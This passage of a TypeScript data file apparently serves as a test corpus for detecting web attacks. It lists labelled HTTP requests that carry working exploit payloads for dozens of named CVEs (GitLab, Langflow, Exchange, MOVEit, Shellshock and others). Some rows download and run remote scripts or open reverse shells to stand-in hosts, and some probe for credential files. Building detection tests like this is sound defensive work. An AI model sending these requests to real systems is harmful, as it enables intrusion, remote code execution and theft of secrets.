                    'AT&TFORM\u0000\u0000\u0003\u00afDJVMDIRM(metadata\n\t(Copyright "\\\n" . qx{id} . \\\n" b ") )',
                ]),
                "GitLab 2021-22205",
            ),
            req(
                form(
                    "/users/password",
                    "authenticity_token=a&user%5Bemail%5D%5B%5D=a%40mail.example.jp&user%5Bemail%5D%5B%5D=b%40x.example",
                ),
                "GitLab 2023-7028",
            ),
            req(get("/a/b/c/uploads/0a1b//..%2f..%2f..%2f..%2f..%2fetc%2fpasswd"), "GitLab 2023-2825"),
            req(get("/public/plugins/alertlist/../../../../../../../../etc/passwd"), "Grafana 2021-43798"),
            req(get("/public/..%2F%5cx.example%2F%3f%2F..%2F.."), "Grafana 2025-4123"),
            req(
                json("/api/ds/query?ds_type=__expr__", {
                    queries: [
                        {
                            refId: "A",
                            datasource: { type: "__expr__", uid: "__expr__" },
                            type: "sql",
                            expression: "SELECT content FROM read_blob('/etc/passwd');",
                        },
                    ],
                }),
                "Grafana 2024-9264",
            ),
            req(
                form(
                    "/index.php",
                    `action=conditions/render&configObject[class]=craft%5Celements%5Cconditions%5CElementCondition&config=${encodeURIComponent('{"name":"configObject","as ":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}')}`,
                ),
                "Craft 2023-41892",
            ),
            req(
                json("/index.php?p=admin/actions/assets/generate-transform", {
                    assetId: 11,
                    handle: {
                        width: 1,
                        height: 1,
                        "as session": {
                            class: "craft\\behaviors\\FieldLayoutBehavior",
                            __class: "GuzzleHttp\\Psr7\\FnStream",
                            "__construct()": [[]],
                            _fn_close: "phpinfo",
                        },
                    },
                }),
                "Craft 2025-32432",
            ),
            req(get("/?--templatesPath=ftp://x.example/"), "Craft 2024-56145"),
            req(
                json("/_ignition/execute-solution", {
                    solution: "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                    parameters: { variableName: "a", viewFile: "phar://../storage/logs/laravel.log/a.txt" },
                }),
                "Laravel 2021-3129",
            ),
            req(post("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "text/plain", "<?=md5(1)?>"), "PHPUnit"),
            req(
                get("/dashboard", "x-middleware-subrequest: middleware:middleware:middleware:middleware:middleware"),
                "Next.js 2025-29927",
            ),
            req(
                parts(
                    "/",
                    [
                        'name="0"',
                        '{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"value":"{\\"then\\":\\"$B0\\"}","_response":{"_prefix":"1+1;","_formData":{"get":"$1:constructor:constructor"}}}',
                    ],
                    ['name="1"', '"$@0"'],
                ),
                "React 2025-55182",
            ),
            req(get("/_next/image?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&w=64&q=75"), "Next.js"),
            req(
                json("/api/v1/validate/code", {
                    code: '@exec(\'raise Exception(__import__("subprocess").check_output("id"))\')\ndef foo():\n  pass',
                }),
                "Langflow 2025-3248",
            ),
            req(
                json("/api/v1/validate/code", { code: "def run(cd=exec('import os;os.system(\"id\")')): pass" }),
                "Langflow 2025-3248",
            ),
            req(
                json("/api/v1/node-load-method/customMCP", {
                    loadMethod: "listActions",
                    inputs: {
                        mcpServerConfig:
                            '({x:(function(){const cp = process.mainModule.require("child_process");cp.execSync("id");return 1;})()})',
                    },
                }),
                "Flowise 2025-59528",
            ),
            req(
                json("/rest/workflows", {
                    nodes: [
                        {
                            type: "n8n-nodes-base.set",
                            parameters: {
                                value: "={{ (function(){ return this.process.mainModule.require('child_process').execSync('id').toString() })() }}",
                            },
                        },
                    ],
                }),
                "n8n 2025-68613",
            ),
            req(get("/@fs/etc/passwd?raw??"), "Vite 2025-30208"),
            req(get("/file=/etc/passwd"), "Gradio"),
            req(json("/api/2.0/mlflow/model-versions/create", { name: "a", source: "file:///etc/" }), "MLflow"),
            req(json("/api/jobs/", { entrypoint: "curl http://x.example/a.sh | sh" }), "Ray 2023-48022"),
            req(
                json("/sqleditor/query_tool/download/1", {
                    query: "SELECT 1",
                    query_commited: "__import__('os').system('id')",
                }),
                "pgAdmin 2025-2945",
            ),
            req(
                json("/security/user/authenticate/run_as", {
                    __unhandled_exc__: { __class__: "os.system", __args__: ["id"] },
                }),
                "Wazuh 2025-24016",
            ),
            req(
                post(
                    "/RPC2",
                    "text/xml",
                    '<?xml version="1.0"?><methodCall><methodName>supervisor.supervisord.options.warnings.linecache.os.system</methodName><params><param><string>id</string></param></params></methodCall>',
                ),
                "Supervisor 2017-11610",
            ),
            req(
                json("/run", { client: "ssh", tgt: "*", fun: "a", roster: "b", ssh_priv: "| id #" }),
                "Salt 2020-16846",
            ),
            req(get("/", "Accept: ../../../../../../../../etc/passwd{{"), "Rails 2019-5418"),
            req(
                post(
                    "/users",
                    "application/xml",
                    '<?xml version="1.0"?><user><name type="yaml">--- !ruby/object:Gem::Requirement\nrequirements: []</name></user>',
                ),
                "Rails 2013-0156",
            ),
            req(get("/staff?is_active=true&_connector=)%20OR%201%3D1%20OR%20("), "Django 2025-64459"),
            req(
                json("/api/timelion/run", {
                    sheet: [
                        ".es(*).props(label.__proto__.env.AAAA='require(\"child_process\").exec(\"id\");process.exit()//').props(label.__proto__.env.NODE_OPTIONS='--require /proc/self/environ')",
                    ],
                }),
                "Kibana 2019-7609",
            ),
            req(
                json("/admin/plugins/install", { plugin: "documentation && $(id)", port: "1337" }),
                "Strapi 2019-19609",
            ),
            req(
                form(
                    "/ajax/api/ad/replaceAdTemplate",
                    `styleid=1&location=a&template=${encodeURIComponent('<vb:if condition=\'"passthru"($_POST["cmd"])\'></vb:if>')}&cmd=id`,
                ),
                "vBulletin 2025-48827",
            ),
            req(
                json("/rest/V1/guest-carts/1/estimate-shipping-methods", {
                    address: {
                        totalsCollector: {
                            collectorList: {
                                totalCollector: {
                                    sourceData: { data: "http://x.example/a.xml", dataIsURL: true, options: 1337 },
                                },
                            },
                        },
                    },
                }),
                "Magento 2024-34102",
            ),
            req(
                form(
                    "/customer/address",
                    "firstname={{var+this.getTemplateFilter().addAfterFilterCallback(system).filter(id)}}",
                ),
                "Magento 2022-24086",
            ),
            req(
                get(
                    "/",
                    'User-Agent: }__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:0:{}}',
                ),
                "Joomla 2015-8562",
            ),
            req(
                get(
                    "/index.php?option=com_fields&view=fields&layout=modal&list[fullordering]=updatexml(0x23,concat(1,user()),1)",
                ),
                "Joomla 2017-8917",
            ),
            req(get("/index.php?target=db_sql.php%253f/../../../../../../etc/passwd"), "phpMyAdmin 2018-12613"),
            req(
                parts("/?_task=settings&_remote=1&_from=edit-!a&_id=&_uploadid=upload1&_action=upload", [
                    'name="_file[]"; filename="|O:16:\\"Crypt_GPG_Engine\\":1:{S:26:\\"\\00Crypt_GPG_Engine\\00_gpgconf\\";S:2:\\"id\\";}"',
                    "a",
                ]),
                "Roundcube 2025-49113",
            ),
            req(
                get("/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css"),
                "ownCloud 2023-49103",
            ),
            req(
                form(
                    "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=a&_cfclient=true",
                    '_variables={"_metadata":{"classname":"i/../lib/password.properties"},"_variables":[]}',
                ),
                "ColdFusion 2023-26360",
            ),
            req(
                form(
                    "/CFIDE/adminapi/accessmanager.cfc?method=foo&_cfclient=true",
                    `argumentCollection=${encodeURIComponent("<wddxPacket version='1.0'><header/><data><struct type='xcom.sun.rowset.JdbcRowSetImplx'><var name='dataSourceName'><string>ldap://x.example/a</string></var><var name='autoCommit'><boolean value='true'/></var></struct></data></wddxPacket>")}`,
                ),
                "ColdFusion 2023-29300",
            ),
            req(
                get("/pms?module=logging&file_name=../../../../../../../etc/passwd&number_of_lines=100"),
                "ColdFusion 2024-20767",
            ),
        ],
    },
    {
        name: "servers, third",
        rows: [
            req(
                get(
                    "/autodiscover/autodiscover.json?@x.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@x.example",
                ),
                "Exchange 2021-34473",
            ),
            req(
                post("/ecp/y.js", "text/plain", "", "Cookie: X-BEResource=localhost~1942062522; X-AnonResource=true"),
                "Exchange 2021-26855",
            ),
            req(
                form(
                    "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
                    `MSOTlPn_Uri=https://www.example.jp&MSOTlPn_DWP=${encodeURIComponent('<%@ Register Tagprefix="Scorecard" Namespace="Microsoft.PerformancePoint.Scorecards" Assembly="Microsoft.PerformancePoint.Scorecards.Client, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c"%><Scorecard:ExcelDataSet CompressedDataTable="H4sIAAAAAAAEAA==" runat="server"/>')}`,
                    "Referer: /_layouts/SignOut.aspx",
                ),
                "SharePoint 2025-53770",
            ),
            req(
                post(
                    "/sitecore/shell/ClientBin/Reporting/Report.ashx",
                    "text/xml",
                    '<a><query></query><source>a</source><parameters><parameter name=""><ArrayOfstring z:Id="1" z:Type="System.Collections.Generic.SortedSet`1[[System.String, mscorlib]]" z:Assembly="System" xmlns:z="http://schemas.microsoft.com/2003/10/Serialization/"><Count>2</Count></ArrayOfstring></parameter></parameters></a>',
                ),
                "Sitecore 2021-42237",
            ),
            req(get("/SetupWizard.aspx/x"), "ScreenConnect 2024-1709"),
            req(
                post(
                    "/moveitisapi/moveitisapi.dll?action=m2",
                    "text/plain",
                    "",
                    "X-siLock-Transaction: session_setvars",
                    "X-siLock-SessVar0: MyPkgSelfProvisionedRecips: a'); INSERT INTO activesessions (SessionID) values ('1'); -- ",
                ),
                "MOVEit 2023-34362",
            ),
            req(
                post(
                    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh",
                    "text/plain",
                    "echo Content-Type: text/plain; echo; id",
                ),
                "httpd 2021-41773",
            ),
            req(get("/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd"), "httpd 2021-42013"),
            req(get(`/?unix:${"A".repeat(4096)}|http://127.0.0.1/`), "httpd 2021-40438"),
            req(get("/mnt/ram/var/log/httpd.log%3f.1.1.1.1a-1.css"), "httpd 2024-38475"),
            req(get("/cgi-bin/test.cgi", "User-Agent: () { :;}; echo; /bin/cat /etc/passwd"), "Bash 2014-6271"),
            req(get("/cgi-bin/status", "Cookie: () { _; } >_[$($())] { id; }"), "Bash 2014-6278"),
            req(
                post(
                    "/cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F%69%6E%70%75%74+%2D%6E",
                    "text/plain",
                    "<?php echo 1;",
                ),
                "PHP-CGI 2012-1823",
            ),
            req(
                json("/containers/create", {
                    Image: "alpine",
                    Cmd: ["sh", "-c", "chroot /mnt sh -c 'curl http://x.example/a|sh'"],
                    HostConfig: { Binds: ["/:/mnt"], Privileged: true },
                }),
                "Docker's API",
            ),
            req(
                json("/ws/v1/cluster/apps", {
                    "application-id": "application_1_1",
                    "am-container-spec": { commands: { command: "/bin/bash -i >& /dev/tcp/x.example/80 0>&1" } },
                }),
                "YARN",
            ),
            req(
                message(
                    "PUT",
                    "/v1/agent/service/register",
                    ["Content-Type: application/json"],
                    '{"ID":"a","Name":"a","Check":{"args":["sh","-c","curl http://x.example/ | sh"],"interval":"5s"}}',
                ),
                "Consul",
            ),
            req(
                json("/validate", {
                    kind: "AdmissionReview",
                    request: {
                        object: {
                            kind: "Ingress",
                            metadata: {
                                annotations: {
                                    "nginx.ingress.kubernetes.io/auth-url":
                                        "http://x.example/#;}}}\n\nssl_engine ../../../../../../proc/1/fd/3;\n\n",
                                },
                            },
                        },
                    },
                }),
                "ingress-nginx 2025-1974",
            ),
            req(get("/static/../../../../../../etc/passwd"), "aiohttp 2024-23334"),
            req(get("/.git/config"), "a repository"),
            req(get("/.aws/credentials"), "keys"),
            req(get("/.env.production"), "settings"),
            req(get("/backup/db.sql.gz"), "a dump"),
            req(get("/..;/manager/html"), "Tomcat's manager"),
            req(get("/admin/%3bfoo/..%3b/secret"), "a parameter of a path"),
            req(get("/web.config.bak"), "settings"),
            req(get("/index.php~"), "an editor's copy"),
            req(get("/proc/self/environ"), "the environment"),
            req(get("/etc/passwd%00.html"), "a file"),
            req(get("//////../../../../etc/passwd"), "a file"),
            req(get("/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"), "a file"),
            req(get("/page", "X-Original-URL: /admin/users"), "another address"),
            req(get("/", "Host: 127.0.0.1:8080@x.example"), "a host"),
            req(get("/", 'X-Forwarded-Host: x.example"><script>alert(1)</script>'), "script in a header"),
            req(get("/", "X-Forwarded-For: 127.0.0.1' AND SLEEP(5)-- -"), "SQL in a header"),
            req(
                get(
                    "/",
                    "Cookie: TrackingId=abc'||(SELECT CASE WHEN SUBSTR(password,1,1)='a' THEN TO_CHAR(1/0) ELSE '' END FROM users WHERE username='administrator')||'",
                ),
                "SQL in a cookie",
            ),
            req(get("/", 'Referer: https://x.example/?"-alert(document.domain)-"'), "script in a header"),
            req(get("/", "Accept-Language: ja'+(select*from(select(sleep(5)))a)+'"), "SQL in a header"),
            req(get("/", "User-Agent: Mozilla/5.0' OR 1=1 LIMIT 1 -- "), "SQL in a header"),
        ],
    },
]

function req(text: string, about: string): Row {
    return ["request", text, about]
}
